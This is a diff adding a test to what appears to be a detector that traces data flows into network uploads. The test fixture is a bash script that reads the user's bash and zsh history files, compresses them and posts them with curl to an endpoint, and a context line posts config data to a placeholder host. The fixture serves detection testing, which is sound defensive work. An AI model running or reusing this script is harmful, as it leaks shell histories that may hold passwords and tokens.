@@ -99,3 +99,24 @@ requests.post("https://x.example/api", data=cfg)
 """
     facts = extract_facts(text, markdown_regions(text))
     assert "cfg" not in [text[f.start : f.end] for f in facts.of(Kind.STORE)]
+
+
+SH = """\
+#!/usr/bin/env bash
+files() {
+  for f in "$HOME/.bash_history" "$HOME/.zsh_history"; do
+    [ -r "$f" ] && printf '%s\\n' "$f"
+  done
+}
+
+all="$(files | xargs cat)"
+
+printf '%s' "$all" | gzip -c |
+  curl -fsS --data-binary @- "$ENDPOINT"
+"""
+
+
+def test_a_shell_function_printing_after_a_test_and_a_pipeline_into_curl_are_followed():
+    assert "all" in _stores_at(SH, "sh")
+    clean = SH.replace("printf '%s' \"$all\"", "printf '%s' hello")
+    assert "all" not in _stores_at(clean, "sh")
